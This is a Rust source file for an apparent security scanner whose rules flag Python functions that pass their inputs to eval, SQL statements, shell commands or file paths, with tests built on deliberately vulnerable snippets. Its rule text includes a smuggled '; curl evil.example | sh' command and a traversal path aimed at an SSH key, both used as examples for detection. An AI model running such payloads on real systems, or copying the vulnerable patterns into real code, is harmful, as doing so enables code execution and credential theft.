//! Python functions that pass their own arguments to a dangerous sink: code evaluation, a shell
//! command line, a SQL statement, a path under a base directory. These are vulnerabilities, not attacks: whoever
//! controls the input (a document, a web page, another tool's output the agent passes along)
//! controls the sink.
//!
//! The analysis is per function and flow-insensitive within it: a function's parameters are
//! tainted, and so is every local assigned from an expression that mentions a tainted name.

use super::{callee_name, finding, python_scope_nodes};
use crate::registry::declare_rule;
use crate::rule::Language;
use crate::units::Unit;
use skillgate_model::{Capability, Confidence, Finding, KillChainStage};
use std::collections::HashSet;
use tree_sitter::Node;

declare_rule! {
    /// ## What it does
    /// Flags `eval(…)` and `exec(…)` whose argument is built from a parameter of the enclosing
    /// function: the parameter itself, an f-string, a concatenation or a local assigned from
    /// one.
    ///
    /// ## Why is this risky?
    /// Code injection: whatever text reaches the function runs as Python with the agent's
    /// privileges. An agent passes along text from documents and web pages, so "the user's
    /// expression" is attacker-controlled. `ast.literal_eval` or a real expression parser does
    /// the job safely.
    ///
    /// ## Example
    /// `def calculate(expression): return eval(expression)`
    pub struct InputReachesEval { code: "SK114", slug: "input-reaches-eval", severity: High, summary: "a function evaluates its input as Python code" }
}

declare_rule! {
    /// ## What it does
    /// Flags a SQL statement built by interpolating a function parameter (f-string, `%`, `+`,
    /// `.format`) and passed to `.execute`, `.executemany`, `.executescript` or `read_sql`,
    /// directly or through a local variable.
    ///
    /// ## Why is this risky?
    /// SQL injection: the input decides the statement, so it can read every table or drop
    /// them. Parameterised queries (`execute("… WHERE id = ?", (user_id,))`) are the fix.
    ///
    /// ## Example
    /// `conn.execute(f"SELECT * FROM users WHERE id = {user_id}")`
    pub struct SqlBuiltFromInput { code: "SK115", slug: "sql-built-from-input", severity: High, summary: "a SQL statement is built from a function's input" }
}

declare_rule! {
    /// ## What it does
    /// Flags `open(…)` for reading of a path that joins a fixed base directory with a function
    /// parameter as its last part
    /// (`os.path.join(base, name)`, `f"/etc/app/{name}"`, `base + name`, `Path(base) / name`)
    /// when the function never checks where the result points (`realpath`, `abspath`,
    /// `resolve`, `normpath`, `commonpath`, `is_relative_to`, `startswith`, `basename`,
    /// `secure_filename`).
    ///
    /// ## Why is this risky?
    /// Path traversal: `../../../home/user/.ssh/id_rsa` as the name walks out of the base
    /// directory, so a skill meant to read one folder reads any file the agent can.
    ///
    /// ## Example
    /// `open(os.path.join("/home/user/documents", filename))`
    pub struct PathEscapesBase { code: "SK116", slug: "path-escapes-base", severity: High, summary: "a file path joins a base directory with unchecked input" }
}

declare_rule! {
    /// ## What it does
    /// Flags a shell command line built by interpolating a function parameter (f-string, `%`,
    /// `+`, `.format`) and run by a shell: `os.system`, `os.popen`, `subprocess.getoutput`,
    /// `subprocess.getstatusoutput`, or a `subprocess` call with `shell=True`, directly or through
    /// a local variable. A function that quotes with `shlex.quote` (or `shlex.join`) is not
    /// flagged.
    ///
    /// ## Why is this risky?
    /// Command injection: `; curl evil.example | sh` inside a file name or a search term runs as
    /// its own command with the agent's privileges. An argument list without a shell
    /// (`subprocess.run(["grep", term, path])`) is the fix.
    ///
    /// ## Example
    /// `os.system(f"convert {filename} out.png")`
    pub struct CommandBuiltFromInput { code: "SK119", slug: "command-built-from-input", severity: High, summary: "a shell command line is built from a function's input" }
}

/// A cheap screen before parsing: most scripts open files, few join a base with input or build
/// SQL.
fn may_hold_a_sink(text: &str) -> bool {
    let code = text.contains("eval(") || text.contains("exec(");
    let sql = (text.contains("execute") || text.contains("read_sql")) && SQL_TEXT.is_match(text);
    let path = text.contains("open(")
        && ["path.join", "joinpath", "f\"/", "f'/"]
            .iter()
            .any(|w| text.contains(w));
    let shell = [
        "system(",
        "popen(",
        "getoutput(",
        "getstatusoutput(",
        "shell=True",
    ]
    .iter()
    .any(|w| text.contains(w));
    code || sql || path || shell
}

/// Calls that hand their first argument to `/bin/sh -c` whatever the keywords.
const SHELL_SINKS: &[&str] = &[
    "os.system",
    "os.popen",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
    "commands.getoutput",
];

/// Calls that run their first argument through a shell when given `shell=True`.
const SUBPROCESS_CALLS: &[&str] = &["run", "call", "check_call", "check_output", "Popen"];

/// Calls that quote input for a shell: a function that uses one is taken to quote its input.
const SHELL_QUOTES: &[&str] = &["quote", "join"];

/// Calls that confine a path to its base directory, or cut it to a file name.
const PATH_CHECKS: &[&str] = &[
    "realpath",
    "abspath",
    "resolve",
    "normpath",
    "commonpath",
    "commonprefix",
    "is_relative_to",
    "relative_to",
    "startswith",
    "basename",
    "secure_filename",
];

/// Parentheses looked through when asking whether a string is built from input; deeper nesting
/// is not how anyone writes a command or a query.
const MAX_NESTING: usize = 32;

const SQL_SINKS: &[&str] = &[
    "execute",
    "executemany",
    "executescript",
    "read_sql",
    "read_sql_query",
];

crate::pattern::lazy_regex! {
    SQL_TEXT = r"(?i)\b(?:select\s.+\sfrom|insert\s+into|update\s+\S+\s+set|delete\s+from|drop\s+table|create\s+table|alter\s+table)\b";
}

struct Function<'t> {
    text: &'t str,
    tainted: HashSet<&'t str>,
    /// Locals holding a SQL statement built from tainted input.
    built_sql: HashSet<&'t str>,
    /// Locals holding a path that joins a base with tainted input.
    joined_paths: HashSet<&'t str>,
    /// Locals holding a command line built from tainted input.
    built_commands: HashSet<&'t str>,
}

impl<'t> Function<'t> {
    fn source(&self, node: Node) -> &'t str {
        node.utf8_text(self.text.as_bytes()).unwrap_or("")
    }

    /// Whether `node` mentions a tainted name (not as an attribute or keyword name). Walked with
    /// a stack: hostile code nests expressions deeper than any thread's stack.
    fn uses_taint(&self, node: Node) -> bool {
        let mut stack = vec![node];
        while let Some(node) = stack.pop() {
            if node.kind() == "identifier" {
                if self.tainted.contains(self.source(node)) {
                    return true;
                }
                continue;
            }
            let mut cursor = node.walk();
            for (i, child) in node.children(&mut cursor).enumerate() {
                let field = node.field_name_for_child(i as u32);
                if field != Some("attribute")
                    && !(node.kind() == "keyword_argument" && field == Some("name"))
                {
                    stack.push(child);
                }
            }
        }
        false
    }

    /// A string built by interpolating tainted input: f-string, `%`, `+` or `.format`.
    fn interpolates_taint(&self, node: Node) -> bool {
        self.interpolates_taint_within(node, MAX_NESTING)
    }

    /// [`Self::interpolates_taint`] looking through at most `depth` parentheses.
    fn interpolates_taint_within(&self, node: Node, depth: usize) -> bool {
        match node.kind() {
            "string" => {
                let mut cursor = node.walk();
                let parts: Vec<Node> = node.children(&mut cursor).collect();
                parts
                    .iter()
                    .any(|p| p.kind() == "interpolation" && self.uses_taint(*p))
            }
            "binary_operator" => {
                let op = node.child_by_field_name("operator").map(|o| self.source(o));
                matches!(op, Some("%" | "+")) && self.uses_taint(node)
            }
            "call" => {
                let is_format = node
                    .child_by_field_name("function")
                    .and_then(|f| f.child_by_field_name("attribute"))
                    .is_some_and(|a| self.source(a) == "format");
                is_format && self.uses_taint(node)
            }
            "parenthesized_expression" | "concatenated_string" if depth > 0 => {
                let mut cursor = node.walk();
                let children: Vec<Node> = node.children(&mut cursor).collect();
                children
                    .into_iter()
                    .any(|c| self.interpolates_taint_within(c, depth - 1))
            }
            _ => false,
        }
    }

    /// Whether the text `node` evaluates to ends with tainted input: `name`, `f"{name}"`,
    /// `"x_" + name`, but not `f"{name}.json"`, whose fixed extension limits what it can name.
    fn ends_in_input(&self, node: Node) -> bool {
        let mut node = node;
        // `a + (b + (c + …))`: follow the right-hand side down without recursing.
        while node.kind() == "binary_operator" {
            match node.child_by_field_name("right") {
                Some(right) => node = right,
                None => return false,
            }
        }
        match node.kind() {
            "string" => {
                let mut cursor = node.walk();
                let last = node
                    .children(&mut cursor)
                    .filter(|p| p.kind() == "interpolation" || p.kind() == "string_content")
                    .last();
                last.is_some_and(|p| p.kind() == "interpolation" && self.uses_taint(p))
            }
            _ => self.uses_taint(node),
        }
    }

    /// A path that ends in tainted input under a fixed base: `os.path.join(base, x)`,
    /// `f"/dir/{x}"`, `base + x`, `Path(base) / x`, where the base mentions no tainted name.
    /// Derived paths (`out_dir / "report.json"` with `out_dir` a parameter) are the caller's
    /// choice of directory, not an escape from one.
    fn joins_taint(&self, node: Node) -> bool {
        let last_tainted_base_fixed = |parts: &[Node]| match parts.split_last() {
            Some((last, base)) => {
                !base.is_empty()
                    && self.ends_in_input(*last)
                    && !base.iter().any(|b| self.uses_taint(*b))
            }
            None => false,
        };
        match node.kind() {
            "call" => {
                let callee = node
                    .child_by_field_name("function")
                    .map(|f| self.source(f))
                    .unwrap_or("");
                if !(callee.ends_with("path.join") || callee.ends_with("joinpath")) {
                    return false;
                }
                let Some(arguments) = node.child_by_field_name("arguments") else {
                    return false;
                };
                let mut cursor = arguments.walk();
                let parts: Vec<Node> = arguments.named_children(&mut cursor).collect();
                last_tainted_base_fixed(&parts)
            }
            "string" => {
                let mut cursor = node.walk();
                let parts: Vec<Node> = node
                    .children(&mut cursor)
                    .filter(|p| p.kind() == "interpolation" || p.kind() == "string_content")
                    .collect();
                let starts_with_dir = parts.first().is_some_and(|p| {
                    p.kind() == "string_content" && self.source(*p).starts_with(['/', '.', '~'])
                });
                starts_with_dir && last_tainted_base_fixed(&parts)
            }
            "binary_operator" => {
                let op = node.child_by_field_name("operator").map(|o| self.source(o));
                let (Some(left), Some(right)) = (
                    node.child_by_field_name("left"),
                    node.child_by_field_name("right"),
                ) else {
                    return false;
                };
                matches!(op, Some("+" | "/")) && last_tainted_base_fixed(&[left, right])
            }
            _ => false,
        }
    }
}

/// Whether an `open(…)` call reads: no mode, or a mode without `w`, `a`, `x` or `+`.
fn opens_for_reading(call: Node, text: &str) -> bool {
    let Some(arguments) = call.child_by_field_name("arguments") else {
        return true;
    };
    let mut cursor = arguments.walk();
    let mode = arguments
        .named_children(&mut cursor)
        .enumerate()
        .find_map(|(i, a)| match a.kind() {
            "keyword_argument" => a
                .child_by_field_name("name")
                .filter(|n| n.utf8_text(text.as_bytes()) == Ok("mode"))
                .and_then(|_| a.child_by_field_name("value")),
            _ if i == 1 => Some(a),
            _ => None,
        });
    mode.and_then(|m| m.utf8_text(text.as_bytes()).ok())
        .is_none_or(|m| !m.contains(['w', 'a', 'x', '+']))
}

fn parameter_names<'t>(params: Node, text: &'t str) -> HashSet<&'t str> {
    let mut names = HashSet::new();
    let mut cursor = params.walk();
    for p in params.named_children(&mut cursor) {
        let name = match p.kind() {
            "identifier" => Some(p),
            "typed_parameter" => p.named_child(0).filter(|n| n.kind() == "identifier"),
            "default_parameter" | "typed_default_parameter" => p.child_by_field_name("name"),
            _ => None,
        };
        if let Some(n) = name.and_then(|n| n.utf8_text(text.as_bytes()).ok())
            && n != "self"
            && n != "cls"
        {
            names.insert(n);
        }
    }
    names
}

/// Whether `call` runs its first argument through a shell.
fn runs_a_shell(call: Node, text: &str) -> bool {
    let Some(function) = call.child_by_field_name("function") else {
        return false;
    };
    let callee = function.utf8_text(text.as_bytes()).unwrap_or("");
    if SHELL_SINKS.contains(&callee) {
        return true;
    }
    let subprocess = callee
        .strip_prefix("subprocess.")
        .or((function.kind() == "identifier").then_some(callee))
        .is_some_and(|name| SUBPROCESS_CALLS.contains(&name));
    subprocess
        && call.child_by_field_name("arguments").is_some_and(|args| {
            let mut cursor = args.walk();
            args.named_children(&mut cursor).any(|a| {
                a.kind() == "keyword_argument"
                    && a.child_by_field_name("name")
                        .is_some_and(|n| n.utf8_text(text.as_bytes()) == Ok("shell"))
                    && a.child_by_field_name("value")
                        .is_some_and(|v| v.utf8_text(text.as_bytes()) == Ok("True"))
            })
        })
}

fn first_argument(call: Node) -> Option<Node> {
    call.child_by_field_name("arguments")?
        .named_child(0)
        .filter(|a| a.kind() != "keyword_argument")
}

struct Hit<'t> {
    info: &'static crate::registry::CodeRuleInfo,
    at: usize,
    function: &'t str,
}

fn analyse_function<'t>(def: Node, text: &'t str, hits: &mut Vec<Hit<'t>>) {
    let (Some(params), Some(body)) = (
        def.child_by_field_name("parameters"),
        def.child_by_field_name("body"),
    ) else {
        return;
    };
    let name = def
        .child_by_field_name("name")
        .and_then(|n| n.utf8_text(text.as_bytes()).ok())
        .unwrap_or("?");
    let mut f = Function {
        text,
        tainted: parameter_names(params, text),
        built_sql: HashSet::new(),
        joined_paths: HashSet::new(),
        built_commands: HashSet::new(),
    };
    if f.tainted.is_empty() {
        return;
    }
    let nodes = python_scope_nodes(body);
    let checks_paths = nodes
        .iter()
        .any(|n| n.kind() == "call" && PATH_CHECKS.contains(&callee_name(*n, text)));
    let quotes_for_shell = nodes.iter().any(|n| {
        n.kind() == "call"
            && SHELL_QUOTES.contains(&callee_name(*n, text))
            && n.child_by_field_name("function")
                .is_some_and(|c| f.source(c).contains("quote") || f.source(c).starts_with("shlex."))
    });
    for node in nodes {
        match node.kind() {
            "assignment" => {
                let (Some(left), Some(right)) = (
                    node.child_by_field_name("left"),
                    node.child_by_field_name("right"),
                ) else {
                    continue;
                };
                if left.kind() != "identifier" {
                    continue;
                }
                let target = f.source(left);
                if f.interpolates_taint(right) && SQL_TEXT.is_match(f.source(right)) {
                    f.built_sql.insert(target);
                }
                if f.joins_taint(right)
                    || (right.kind() == "identifier" && f.joined_paths.contains(f.source(right)))
                {
                    f.joined_paths.insert(target);
                }
                if f.interpolates_taint(right)
                    || (right.kind() == "identifier" && f.built_commands.contains(f.source(right)))
                {
                    f.built_commands.insert(target);
                }
                if f.uses_taint(right) {
                    f.tainted.insert(target);
                }
            }
            "call" => {
                let callee = callee_name(node, text);
                let Some(argument) = first_argument(node) else {
                    continue;
                };
                let is_builtin = node
                    .child_by_field_name("function")
                    .is_some_and(|c| c.kind() == "identifier");
                let info =
                    if is_builtin && matches!(callee, "eval" | "exec") && f.uses_taint(argument) {
                        &InputReachesEval::INFO
                    } else if SQL_SINKS.contains(&callee)
                        && ((f.interpolates_taint(argument)
                            && SQL_TEXT.is_match(f.source(argument)))
                            || (argument.kind() == "identifier"
                                && f.built_sql.contains(f.source(argument))))
                    {
                        &SqlBuiltFromInput::INFO
                    } else if is_builtin
                        && callee == "open"
                        && !checks_paths
                        && opens_for_reading(node, text)
                        && (f.joins_taint(argument)
                            || (argument.kind() == "identifier"
                                && f.joined_paths.contains(f.source(argument))))
                    {
                        &PathEscapesBase::INFO
                    } else if !quotes_for_shell
                        && runs_a_shell(node, text)
                        && (f.interpolates_taint(argument)
                            || (argument.kind() == "identifier"
                                && f.built_commands.contains(f.source(argument))))
                    {
                        &CommandBuiltFromInput::INFO
                    } else {
                        continue;
                    };
                hits.push(Hit {
                    info,
                    at: node.start_byte(),
                    function: name,
                });
            }
            _ => {}
        }
    }
}

fn describe(info: &crate::registry::CodeRuleInfo, function: &str) -> String {
    match info.code {
        "SK114" => format!("`{function}` evaluates its input as Python code (code injection)"),
        "SK115" => format!("`{function}` builds a SQL statement from its input (SQL injection)"),
        "SK119" => format!(
            "`{function}` runs a shell command line built from its input (command injection)"
        ),
        _ => format!(
            "`{function}` opens a path joining a base directory with unchecked input (path traversal)"
        ),
    }
}

pub fn check(units: &[Unit], out: &mut Vec<Finding>) {
    for unit in units
        .iter()
        .filter(|u| u.lang == Language::Python && u.decoded_from.is_none())
    {
        if !may_hold_a_sink(&unit.text) {
            continue;
        }
        let Some(tree) = unit.tree() else {
            continue;
        };
        let mut hits = Vec::new();
        let mut stack = vec![tree.root_node()];
        while let Some(node) = stack.pop() {
            if node.kind() == "function_definition" {
                analyse_function(node, &unit.text, &mut hits);
            }
            let mut cursor = node.walk();
            stack.extend(node.children(&mut cursor));
        }
        hits.sort_by_key(|h| h.at);
        for hit in hits {
            let (line, col) = unit.position(hit.at);
            let (capability, stage) = match hit.info.code {
                "SK114" => (Some(Capability::CodeDynamic), KillChainStage::Execution),
                // A flaw others can exploit, not a step the skill takes: no stage of its own.
                "SK115" => (None, KillChainStage::None),
                "SK119" => (Some(Capability::ProcExec), KillChainStage::None),
                _ => (Some(Capability::FsRead), KillChainStage::None),
            };
            let mut f = finding(
                hit.info,
                Confidence::Medium,
                "vulnerability",
                describe(hit.info, hit.function),
            )
            .at(&unit.file, Some(line), Some(col))
            .with_evidence(unit.line_at(hit.at).trim())
            .with_stage(stage);
            f.capability = capability;
            out.push(f);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn codes(script: &str) -> Vec<String> {
        let mut out = Vec::new();
        check(
            &[Unit::new("scripts/x.py", Language::Python, script, 1)],
            &mut out,
        );
        out.into_iter().map(|f| f.code).collect()
    }

    #[test]
    fn input_reaching_a_sink_is_found() {
        for (script, code) in [
            (
                "def calculate(expression):\n    return eval(expression)\n",
                "SK114",
            ),
            (
                "def run(formula, variables):\n    exec(f\"{formula} = {variables}\")\n",
                "SK114",
            ),
            (
                "def get(conn, user_id):\n    q = f\"SELECT * FROM users WHERE id = {user_id}\"\n    return conn.execute(q).fetchone()\n",
                "SK115",
            ),
            (
                "def find(cur, name):\n    cur.execute(\"SELECT * FROM t WHERE name = '%s'\" % name)\n",
                "SK115",
            ),
            (
                "def find(cur, name):\n    cur.execute(\"DELETE FROM t WHERE n = \" + name)\n",
                "SK115",
            ),
            (
                "import os\ndef read_file(filename):\n    path = os.path.join('/home/user/documents', filename)\n    with open(path) as f:\n        return f.read()\n",
                "SK116",
            ),
            (
                "def read_config(name):\n    return open(f\"/etc/app/{name}\").read()\n",
                "SK116",
            ),
            (
                "import os\ndef convert(filename):\n    os.system(f\"convert {filename} out.png\")\n",
                "SK119",
            ),
            (
                "import subprocess\ndef grep(term, path):\n    cmd = 'grep -r ' + term + ' ' + path\n    return subprocess.check_output(cmd, shell=True)\n",
                "SK119",
            ),
            (
                "import os\ndef lookup(host):\n    return os.popen('nslookup %s' % host).read()\n",
                "SK119",
            ),
        ] {
            assert_eq!(codes(script), [code], "{script}");
        }
    }

    #[test]
    fn safe_forms_are_not() {
        for script in [
            // Literal code, parameterised SQL, a constant table name.
            "def f(x):\n    return eval('1 + 2')\n",
            "def get(conn, user_id):\n    return conn.execute('SELECT * FROM users WHERE id = ?', (user_id,))\n",
            "TABLE = 'users'\ndef count(conn, limit):\n    return conn.execute(f'SELECT count(*) FROM {TABLE}')\n",
            // Not SQL: some other API's execute.
            "def run(client, q):\n    return client.execute(f'{q}')\n",
            // The path is checked, or is the caller's own path with no base to escape.
            "import os\ndef read(name):\n    p = os.path.realpath(os.path.join(BASE, name))\n    if not p.startswith(BASE):\n        raise ValueError\n    return open(p).read()\n",
            "def read(path):\n    return open(path).read()\n",
            // Writes, and a file name under the caller's own directory.
            "def save(name, data):\n    open(os.path.join(OUT, name), 'w').write(data)\n",
            "def load_wallet(name):\n    with open(KEYSTORE / f\"{name}.json\") as f:\n        return f.read()\n",
            "def sync(meeting_dir):\n    with open(meeting_dir / 'notes.md') as f:\n        return f.read()\n",
            // An argument list without a shell; quoted input; a command the caller passes whole.
            "import subprocess\ndef grep(term, path):\n    return subprocess.run(['grep', '-r', term, path])\n",
            "import os, shlex\ndef convert(name):\n    os.system(f'convert {shlex.quote(name)} out.png')\n",
            "import subprocess\ndef run(cmd):\n    return subprocess.run(cmd, shell=True)\n",
            "import subprocess\ndef show(path):\n    subprocess.run(f'ls {path}', shell=False)\n",
            // Module level: no parameter.
            "expr = input()\nprint(eval(expr))\n",
        ] {
            assert!(codes(script).is_empty(), "{script}: {:?}", codes(script));
        }
    }
}
